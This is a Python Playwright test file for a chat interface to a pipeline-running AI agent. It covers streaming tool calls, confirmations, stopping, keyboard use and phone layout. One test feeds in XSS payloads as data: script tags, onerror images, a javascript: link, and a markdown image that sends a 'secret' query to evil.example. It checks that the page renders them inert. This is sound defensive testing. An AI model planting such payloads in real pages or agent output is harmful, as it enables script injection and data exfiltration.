"""A chat as people see it, in Chromium: streaming, cards, confirmations, stop, reloads, restarts, keyboard, phone."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from datetime import timedelta

import pytest
import uvicorn
from playwright.sync_api import Browser, Page, expect

from agent.chat import wire
from agent.web.process import ChatProcess
from agent.web.section import SECTION
from lifecycle.app.sections import SECTIONS
from lifecycle.app.site import create_site
from tests.browser.conftest import PASSWORD, PHONE, WIDE, Server, accessible, fits, in_every_look, picture, sign_in
from tests.fakes.chats import STARTED, FakeChats
from tests.lifecycle.life import Life
from tests.waiting import wait_until

pytestmark = [pytest.mark.browser]
IDLE, WORKING, ASKING = wire.ChatState.IDLE, wire.ChatState.WORKING, wire.ChatState.ASKING
DONE, RUNNING, FAILED = wire.CallState.DONE, wire.CallState.RUNNING, wire.CallState.FAILED


class ChatServer(Server):
    """The app with chats."""

    def __init__(self, life: Life, process: ChatProcess) -> None:
        super().__init__(life)
        self.site = create_site(life.ctx, (*SECTIONS, SECTION), connected=(process,))

    def start(self) -> None:
        config = uvicorn.Config(
            self.site, host="127.0.0.1", port=self.port, log_level="warning", lifespan="off", ws="none",
            timeout_graceful_shutdown=1,
        )  # fmt: skip
        self._server = uvicorn.Server(config)
        self._thread = threading.Thread(target=self._server.run, daemon=True)
        self._thread.start()
        wait_until(lambda: self._server.started, 20)


@pytest.fixture
def server(life: Life, process: ChatProcess) -> Iterator[ChatServer]:
    made = ChatServer(life, process)
    made.start()
    yield made
    made.stop()


@pytest.fixture
def browse(server: ChatServer, chromium: Browser) -> Iterator[Callable[..., Page]]:
    """Opens a browser for a person; nothing may be asked of another host, and the console stays free of errors."""
    opened: list[tuple[Page, list[str], list[str]]] = []

    def open_for(name: str = "ada", *, phone: bool = False) -> Page:
        server.life.give_password(name, PASSWORD)
        context = chromium.new_context(viewport=PHONE if phone else WIDE, base_url=server.url, has_touch=phone)
        page = context.new_page()
        page.set_default_timeout(30_000)
        told: list[str] = []
        asked: list[str] = []
        page.on("console", lambda said: told.append(said.text) if said.type == "error" else None)
        page.on("pageerror", lambda error: told.append(f"Error: {error}"))
        page.on("dialog", lambda dialog: told.append(f"Error: a dialog {dialog.message}"))
        page.on("request", lambda one: asked.append(one.url) if not one.url.startswith(server.url) else None)
        opened.append((page, told, asked))
        page.goto("/sign-in")
        sign_in(page, name)
        page.get_by_role("navigation", name="Main").wait_for()
        return page

    yield open_for
    for page, told, asked in opened:
        page.context.close()
        assert not [line for line in told if "Content Security Policy" in line or "Error:" in line], told
        assert not asked, asked


def say(page: Page, text: str) -> None:
    page.get_by_label("Message", exact=True).fill(text)
    page.keyboard.press("Enter")


def test_a_conversation_with_a_tool_call_arrives_as_it_is_made(
    server: ChatServer, fake: FakeChats, browse: Callable[..., Page]
) -> None:
    server.life.save()
    page = browse()
    page.goto("/pipelines/flights")
    page.get_by_role("link", name="Ask about this").click()
    expect(page.get_by_text("about pipeline flights")).to_be_visible()
    expect(page.get_by_label("Message", exact=True)).to_be_focused()
    in_every_look(page, "chat-new")
    page.get_by_role("button", name="How did its last runs go?").click()
    expect(page).to_have_url(f"{server.url}/chats/c1")
    expect(page.get_by_label("You").get_by_text("How did its last runs go?")).to_be_visible()
    expect(page.locator("#chat-bar")).to_contain_text("working")
    expect(page.get_by_role("button", name="Send")).to_be_disabled()

    call = fake.call("c1", "search_runs", RUNNING, arguments={"pipeline": "flights", "limit": 5}, progress="3 of 5")
    card = page.locator(f"#entry-{call}")
    expect(card).to_contain_text("running")
    expect(card).to_contain_text("3 of 5")
    links = (wire.Link(label="flights", href="/pipelines/flights"),)
    fake.put(
        "c1",
        call,
        state=DONE,
        ended_at=STARTED + timedelta(seconds=1.4),
        output='{"runs": [{"id": "r1"}]}',
        links=links,
    )
    expect(card).to_contain_text("done")
    expect(card).to_contain_text("1.4 s")
    card.get_by_text("Output").click()
    expect(card.get_by_label("Output")).to_contain_text('"id": "r1"')
    expect(card.get_by_role("link", name="flights")).to_have_attribute("href", "/pipelines/flights")

    reply = fake.reply("c1", "", done=False)
    answer = page.locator(f"#entry-{reply}")
    for piece in ("The last run ", "**failed**.", "\n\nThe check ", "`some` found "):
        fake.text("c1", reply, piece)
    expect(answer).to_contain_text("The check `some` found")
    page.reload()
    expect(answer.locator("strong")).to_have_text("failed")
    expect(answer).to_contain_text("The check `some` found")
    fake.text("c1", reply, "0 rows.")
    expect(answer).to_contain_text("found 0 rows.")
    text = "The last run **failed**.\n\nThe check `some` found 0 rows.\n\n| run | rows |\n|--|--:|\n| r1 | 0 |"
    fake.put("c1", reply, text=text, done=True)
    fake.state("c1", IDLE, wire.Usage(tokens=12_340, money=0.02, steps=3, seconds=4.2))
    expect(answer.locator("code")).to_have_text("some")
    expect(answer.locator("td")).to_have_text(["r1", "0"])
    expect(page.locator("#chat-bar")).to_contain_text(
        "12\u202f340 of 2\u202f000\u202f000 tokens · $0.02 · 3 steps · 4 s"
    )
    expect(page.get_by_role("button", name="Send")).to_be_enabled()
    in_every_look(page, "chat")

    say(page, "Thanks")
    expect(page.get_by_label("You").last).to_have_text("Thanks")
    expect(page.get_by_label("Message", exact=True)).to_have_value("")
    expect(page.get_by_label("Message", exact=True)).to_be_focused()
    page.goto("/chats?q=rows")
    expect(page.get_by_role("link", name="How did its last runs go?")).to_be_visible()
    in_every_look(page, "chats")


def test_a_change_is_confirmed_or_refused_with_its_exact_arguments(
    server: ChatServer, fake: FakeChats, browse: Callable[..., Page]
) -> None:
    chat = fake.begin("ada", title="Run it", state=WORKING)
    page = browse()
    page.goto(f"/chats/{chat}")
    arguments = {"pipeline": "flights", "environment": "qa", "partitions": ["2013-02"], "sql": "SELECT 1\nFROM raw"}
    asked = fake.question("Run flights in QA?")
    one = fake.call(chat, "run_pipeline", wire.CallState.ASKING, arguments=arguments, question=asked, changes=True)
    fake.state(chat, ASKING)
    card = page.locator(f"#entry-{one}")
    expect(card).to_contain_text("waiting for you")
    for shown in ("flights", "qa", '"2013-02"', "SELECT 1\nFROM raw"):
        expect(card.locator(".arguments")).to_contain_text(shown)
    expect(page.locator("#heard")).to_contain_text("TRex asks for a confirmation: Run flights in QA?")
    in_every_look(page, "chat-confirm")
    card.get_by_role("button", name="Refuse").click()
    expect(card).to_contain_text("refused")
    assert [answer.agree for answer in fake.answers] == [False]

    two = fake.call(chat, "run_pipeline", wire.CallState.ASKING, arguments=arguments, question=asked, changes=True)
    card = page.locator(f"#entry-{two}")
    card.get_by_role("button", name="Confirm").focus()
    page.keyboard.press("Enter")
    expect(card).to_contain_text("Confirmed by ada")
    assert [answer.agree for answer in fake.answers] == [False, True]
    expect(page.get_by_label("Message", exact=True)).to_be_focused()


# A page may ask in the moment in which the process stops: httpx leaves a socket that it could not connect to the garbage
# collector.
@pytest.mark.filterwarnings("ignore:Exception ignored in. <socket:pytest.PytestUnraisableExceptionWarning")
@pytest.mark.filterwarnings("ignore:unclosed <socket:ResourceWarning")
def test_stop_and_a_process_that_was_killed(server: ChatServer, fake: FakeChats, browse: Callable[..., Page]) -> None:
    chat = fake.begin("ada", title="Long work", state=WORKING)
    call = fake.call(chat, "run_pipeline", RUNNING, arguments={"pipeline": "flights"})
    page = browse()
    page.goto(f"/chats/{chat}")
    expect(page.locator(f"#entry-{call}")).to_contain_text("running")
    fake.stop()
    expect(page.locator("#chat-away")).to_contain_text("the chat process is not running")
    picture(page, "chat-away")
    fake.put(chat, call, state=wire.CallState.UNKNOWN, ended_at=STARTED)
    fake.add(chat, wire.Note, text="The chat process was restarted.", is_problem=True)
    fake.start()
    expect(page.locator("#chat-away")).to_be_hidden()
    expect(page.locator(f"#entry-{call}")).to_contain_text("outcome unknown")
    expect(page.get_by_text("The chat process was restarted.").first).to_be_visible()
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_text("Stopped by you.")).to_be_visible()
    expect(page.get_by_role("button", name="Stop")).to_have_count(0)
    assert fake.stopped == [chat]
    say(page, "Go on")
    expect(page.get_by_label("You").last).to_have_text("Go on")


def test_a_chat_is_led_by_the_keyboard_alone(server: ChatServer, fake: FakeChats, browse: Callable[..., Page]) -> None:
    page = browse()
    page.goto("/chats/new")
    expect(page.locator("#say")).to_be_focused()
    page.keyboard.type("First line")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second line")
    page.keyboard.press("Enter")
    expect(page.get_by_label("You")).to_have_text("First line\nsecond line")
    call = fake.call(
        "c1", "run", wire.CallState.ASKING, arguments={"pipeline": "flights"}, question=fake.question("Run?")
    )
    fake.state("c1", ASKING)
    expect(page.locator(f"#entry-{call}")).to_contain_text("Run?")
    page.get_by_label("Message", exact=True).focus()
    for _ in range(3):  # past Stop and Refuse
        page.keyboard.press("Shift+Tab")
    expect(page.get_by_role("button", name="Confirm")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator(f"#entry-{call}")).to_contain_text("Confirmed by ada")
    page.keyboard.type("too early")
    page.keyboard.press("Enter")
    expect(page.locator("#heard")).to_contain_text("TRex is still working")
    expect(page.get_by_label("Message", exact=True)).to_have_value("too early")
    fake.put("c1", call, state=DONE, ended_at=STARTED, output="{}")
    fake.state("c1", IDLE)
    expect(page.get_by_role("button", name="Send")).to_be_enabled()
    page.get_by_label("Message", exact=True).press("Enter")
    expect(page.get_by_label("You").last).to_have_text("too early")


def test_on_a_phone_nothing_is_cut_off_and_enter_is_a_new_line(
    server: ChatServer, fake: FakeChats, browse: Callable[..., Page]
) -> None:
    chat = fake.begin("ada", title="x" * 150)
    fake.add(chat, wire.Said, text="y" * 400)
    fake.reply(chat, "z" * 400 + "\n\n| a | b |\n|--|--|\n| " + "c" * 200 + " | d |\n\n```\n" + "e" * 300 + "\n```")
    fake.call(
        chat,
        "q" * 60,
        FAILED,
        arguments={"name" * 10: "v" * 300, "n": 1},
        error="w" * 300,
        output='{"o": "' + "p" * 500 + '"}',
    )
    page = browse(phone=True)
    page.goto(f"/chats/{chat}")
    fits(page)
    accessible(page)
    page.get_by_text("Output").click()
    page.get_by_text("Input").click()
    fits(page)
    picture(page, "chat-long-phone")
    page.goto("/chats")
    fits(page)


def test_a_hostile_answer_runs_nothing_loads_nothing_and_stays_readable(
    server: ChatServer, fake: FakeChats, browse: Callable[..., Page]
) -> None:
    chat = fake.begin("ada", title="<img src=x onerror=alert(1)>", state=WORKING)
    page = browse()
    page.goto(f"/chats/{chat}")
    evil = (
        "<script>alert(1)</script> ![x](https://evil.example/p.png?q=secret) [report](https://evil.example/?q=s)\n\n"
        "<img src=https://evil.example/i.png onerror=alert(1)> [x](javascript:alert(1)) \u202eevil\u200b\n\n"
    )
    fake.call(chat, "query", DONE, title=evil, arguments={evil: evil}, output=evil, ended_at=STARTED)
    fake.add(chat, wire.Note, text=evil, is_problem=True)
    reply = fake.reply(chat, "", done=False)
    answer = page.locator(f"#entry-{reply}")
    expect(answer).to_be_attached()
    fake.text(chat, reply, evil)
    fake.text(chat, reply, "end of evil")
    expect(answer).to_contain_text("end of evil")
    fake.put(chat, reply, text=evil + "word " * 200_000, done=True)
    expect(answer).to_contain_text("more characters: show all of it as text")
    expect(answer).to_contain_text("<script>alert(1)</script>")
    expect(answer).to_contain_text("⟨U+202E⟩evil⟨U+200B⟩")
    assert answer.locator("a").count() == 1
    assert page.locator("main img, main script, main iframe").count() == 0
    page.reload()
    expect(answer).to_contain_text("⟨U+202E⟩evil")
    page.evaluate("scrollTo(0, 0)")
    picture(page, "chat-hostile", whole=False)


def test_a_session_that_ended_leads_from_a_chat_to_the_sign_in_page(
    server: ChatServer, fake: FakeChats, browse: Callable[..., Page]
) -> None:
    chat = fake.begin("ada", title="Mine")
    page = browse()
    page.goto(f"/chats/{chat}")
    page.get_by_label("Message", exact=True).fill("Not sent yet")
    server.life.give_password("ada", PASSWORD)  # ends the session
    page.keyboard.press("Enter")
    expect(page.get_by_label("Account")).to_be_visible()
    sign_in(page, "ada")
    expect(page.get_by_label("Message", exact=True)).to_have_value("Not sent yet")


ANSWER = """\
The run of February in **UAT** stopped before it published: the blocking check `delays_are_plausible` found 12 rows.

| node | check | rows |
|---|---|---|
| `daily_delays` | `delays_are_plausible` | 12 |

All 12 have a negative `dep_delay` below −60 minutes. Version 2 changed the filter of `clean` from `> -60` to `> -600`; version 1 passed on the same files. Nothing was published, so readers still see version 1. See [flights_daily](/pipelines/flights_daily).
"""


@pytest.mark.slow
def test_the_picture_of_the_documentation(server: ChatServer, fake: FakeChats, browse: Callable[..., Page]) -> None:
    chat = fake.begin(
        "ada", title="Why did flights_daily fail in UAT?", about=wire.About(kind="pipeline", name="flights_daily")
    )
    page_of = (wire.Link(label="Pipeline flights_daily", href="/pipelines/flights_daily"),)
    run_of = (wire.Link(label="Run 7d1f0c52", href="/dagster/runs/7d1f0c52"),)
    fake.add(chat, wire.Said, text="Why did flights_daily fail in UAT?")
    listed = {"pipeline": "flights_daily", "environment": "uat", "status": "failed", "limit": 1}
    fake.call(
        chat,
        "list_runs",
        DONE,
        arguments=listed,
        output="{}",
        ended_at=STARTED + timedelta(seconds=0.084),
        links=page_of,
    )
    read = {"run_id": "7d1f0c52", "logs": True}
    fake.call(
        chat, "get_run", DONE, arguments=read, output="{}", ended_at=STARTED + timedelta(seconds=0.131), links=run_of
    )
    fake.reply(chat, ANSWER)
    fake.add(chat, wire.Said, text="Run version 1 again for February, in QA.")
    again = {"pipeline": "flights_daily", "environment": "qa", "partition": "2013-02", "dry_run": False}
    question = fake.question("Run flights_daily in QA for 2013-02?")
    fake.call(chat, "run", wire.CallState.ASKING, arguments=again, question=question, changes=True)
    fake.state(chat, ASKING, wire.Usage(tokens=14_210, money=0.06, steps=4, seconds=19))
    page = browse()
    page.set_viewport_size({"width": 1280, "height": 1180})
    page.goto(f"/chats/{chat}")
    expect(page.get_by_role("button", name="Confirm")).to_be_visible()
    # The question's end is told from the real clock, the page from the tests'.
    page.locator(".confirm .row .muted").evaluate(
        "one => { one.textContent = 'Exactly these arguments. The question ends in 10 min.'; }"
    )
    accessible(page)
    picture(page, "chat", whole=False)
